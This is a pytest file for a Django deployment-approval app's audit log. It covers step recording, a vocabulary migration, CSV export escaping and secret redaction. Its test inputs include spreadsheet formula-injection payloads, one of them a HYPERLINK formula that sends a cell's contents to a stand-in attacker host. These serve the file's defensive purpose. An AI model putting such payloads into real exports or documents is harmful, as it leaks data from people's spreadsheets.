"""The audit log (issue 16, findings 9 and 16): every step of a deployment is in it (trigger, each
decision, approval, rejection, cancellation, completion, expiry) with readable targets; rejections are
``deployment.rejected`` (old rows migrated); the CSV export escapes cells a spreadsheet would run as a
formula (tried against the real server, as a project admin); and no secret is ever kept."""

import csv
import importlib
import io
import json
from datetime import timedelta

import pytest
from django.apps import apps
from django.utils import timezone

from policies_app import audit
from policies_app.accounts import audit_log, tokens
from policies_app.deployments import approvals, lifecycle, sweeps
from policies_app.models import AuditEntry, Environment, Project
from policies_app.policies.git import repositories
from tests.accounts.live import api_call
from tests.builders import api_key_for, make_policy, make_user
from tests.processes import gunicorn

pytestmark = pytest.mark.django_db

POLICIES = {
    "allow": 'package env0\n\nallow contains "fine" if true\n',
    "warn": 'package env0\n\nwarn contains "careful" if true\n',
    "deny": 'package env0\n\ndeny contains "no" if true\n',
    # concat over an object: an evaluation error, so the deployment fails closed.
    "error": 'package env0\n\ndeny contains msg if msg := concat(",", input.deploymentRequest)\n',
}


def trail(deployment) -> list[tuple[str, str | None]]:
    entries = AuditEntry.objects.filter(target_type="deployment", target_id=str(deployment.pk)).order_by("id")
    return [(entry.action, entry.actor.username if entry.actor else None) for entry in entries]


def test_every_step_of_a_deployment_is_in_the_audit_log(gated, run):
    approved, _ = run(lifecycle.trigger_deployment, gated.environment, gated.bob)
    run(approvals.record_approval, approved, gated.alice, "approve", "fine by me")
    approved.refresh_from_db()
    lifecycle.complete_deployment(approved, gated.bob, "succeeded")
    assert trail(approved) == [
        ("deployment.triggered", "bob"),
        ("deployment.decision.pending", None),
        ("deployment.approved", "alice"),
        ("deployment.decision.allow", None),
        ("deployment.completed", "bob"),
    ]
    rejected, _ = run(lifecycle.trigger_deployment, gated.environment, gated.bob)
    run(approvals.record_approval, rejected, gated.sam, "reject", "not today")
    assert trail(rejected)[-1] == ("deployment.rejected", "sam")
    cancelled, _ = run(lifecycle.trigger_deployment, gated.environment, gated.bob)
    approvals.cancel_deployment(cancelled, gated.bob)
    assert trail(cancelled)[-1] == ("deployment.cancelled", "bob")
    expired, _ = run(lifecycle.trigger_deployment, gated.environment, gated.bob)
    sweeps.sweep_waiting_deployments(timezone.now() + timedelta(days=30))
    assert trail(expired)[-1] == ("deployment.expired", None)

    entry = AuditEntry.objects.filter(action="deployment.rejected").get()
    assert entry.target_repr == f"deploy #{rejected.pk} of Payments EU / prod"
    assert entry.project == gated.payments_eu and entry.after == {"comment": "not today"}


@pytest.mark.parametrize("decision", sorted(POLICIES))
def test_each_decision_is_recorded_denials_and_failures_included(world, run, decision):
    project = Project.objects.create(name=f"{decision} project")
    project.approval_policies.add(make_policy(f"{decision} policy", POLICIES[decision]))
    environment = Environment.objects.create(name="prod", project=project, template=world.template)
    deployment, _ = run(lifecycle.trigger_deployment, environment, world.admin)
    deployment.refresh_from_db()
    assert deployment.decision == decision
    assert trail(deployment) == [("deployment.triggered", "admin"), (f"deployment.decision.{decision}", None)]


def test_targets_are_named_in_words(world):
    make_policy("cost guard", POLICIES["allow"])
    entry = AuditEntry.objects.get(action="policy.created")
    assert (entry.target_type, entry.target_repr) == ("approval policy", "cost guard")
    # A filter by the model's internal name, as entries used to carry, still finds them.
    by_old_name = audit_log.filtered(
        AuditEntry.objects.all(), audit_log.AuditFilters(target_type="approvalpolicy")
    )
    assert list(by_old_name) == [entry]


def test_existing_entries_are_migrated_to_the_words_the_log_uses_now(world):
    migration = importlib.import_module("policies_app.migrations.0012_audit_vocabulary")
    old = [
        AuditEntry.objects.create(action=action, target_type=kind, target_id="1", target_repr="x")
        for action, kind in (
            ("deployment.rejectd", "deployment"),
            ("policy.created", "approvalpolicy"),
            ("policy_repository.created", "policyrepository"),
        )
    ]
    migration.forwards(apps, None)
    migrated = AuditEntry.objects.filter(pk__in=[e.pk for e in old]).order_by("id")
    assert [(e.action, e.target_type) for e in migrated] == [
        ("deployment.rejected", "deployment"),
        ("policy.created", "approval policy"),
        ("policy_repository.created", "policy repository"),
    ]


FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd", "+1+cmd", "-2+3"]


@pytest.mark.django_db(transaction=True)
def test_a_csv_export_escapes_cells_that_a_spreadsheet_would_run(world, tmp_path):
    pat = make_user("pat")
    world.payments.memberships.create(user=pat, role="admin")
    key = api_key_for(pat)
    with gunicorn(tmp_path) as base:
        for name in FORMULAS:
            status, body = api_call(
                base, key, "POST", "/api/v1/projects/", {"name": name, "parent": world.payments.pk}
            )
            assert status == 201, body
        status, exported = api_call(base, key, "GET", "/api/v1/audit/export/?file=csv&action=project.created")
    assert status == 200
    rows = list(csv.reader(io.StringIO(exported)))
    assert sorted(row[6] for row in rows[1:]) == sorted("'" + name for name in FORMULAS)
    for row in rows[1:]:
        assert not [cell for cell in row if cell.startswith(audit_log.FORMULA_TRIGGERS)], row
        assert json.loads(row[9])["name"] in FORMULAS, "the JSON cell keeps the name as it is"


def test_cells_starting_with_a_tab_or_a_carriage_return_are_escaped_too(world):
    for text in ("\tcmd", "\r=cmd", "plain"):
        AuditEntry.objects.create(action="x", target_type="t", target_id="1", target_repr=text)
    exported = "".join(audit_log.export_csv(AuditEntry.objects.order_by("id")))
    targets = [row[6] for row in csv.reader(io.StringIO(exported))][1:]
    assert targets == ["'\tcmd", "'\r=cmd", "plain"]


# --- nothing secret ------------------------------------------------------------------------------------


def test_the_log_keeps_no_secret_whatever_a_use_case_hands_it(world):
    before = {"secret": "old-hook-secret", "password": "", "has_password": False, "name": "hook"}
    after = {
        "secret": "new-hook-secret",
        "password": "hunter2",
        "has_password": True,
        "name": "hook",
        "headers": [{"Authorization": "Bearer abc"}],
        "repository": "https://deploy:ghp_pAsSwOrD@github.example.com/org/infra.git",
        "config": {"apiKey": "k-123", "ssh_private_key": "-----BEGIN OPENSSH PRIVATE KEY-----"},
        "environment_variables": {"REGION": "eu", "DB_URL": "postgres://u:pw@db/x"},
        "sensitive_variables": {"environment": ["DB_URL"]},
    }
    entry = audit.record(world.admin, "thing.changed", world.payments, before=before, after=after)
    entry.refresh_from_db()
    kept = json.dumps([entry.before, entry.after])
    for secret in (
        "old-hook-secret",
        "new-hook-secret",
        "hunter2",
        "Bearer abc",
        "k-123",
        "BEGIN OPENSSH",
        "pw@db",
        "ghp_pAsSwOrD",
    ):
        assert secret not in kept
    assert entry.before["secret"] == audit.REDACTED and entry.after["secret"] == audit.CHANGED
    assert entry.after["password"] == audit.CHANGED and entry.before["password"] == ""
    assert entry.after["has_password"] is True and entry.after["name"] == "hook"
    assert entry.after["environment_variables"] == {"REGION": "eu", "DB_URL": audit.REDACTED}
    assert entry.after["repository"] == "https://deploy:********@github.example.com/org/infra.git"


def test_repository_secrets_and_token_keys_stay_out_of_the_log(world, loopback_allowed):
    repository = repositories.save_repository(
        None,
        world.admin,
        name="infra",
        url="https://127.0.0.1:9/infra.git",
        password="tok-1",
        ssh_private_key="KEY-1",
    )
    repositories.save_repository(repository, world.admin, password="tok-2", webhook_secret="hook-2")
    _, key = tokens.create_token(world.bob, "pipeline")
    kept = json.dumps(list(AuditEntry.objects.values_list("before", "after")))
    for secret in ("tok-1", "tok-2", "KEY-1", "hook-2", key, key[10:]):
        assert secret not in kept
    changed = AuditEntry.objects.get(action="policy_repository.changed")
    assert changed.after["has_password"] is True and changed.after["has_webhook_secret"] is True
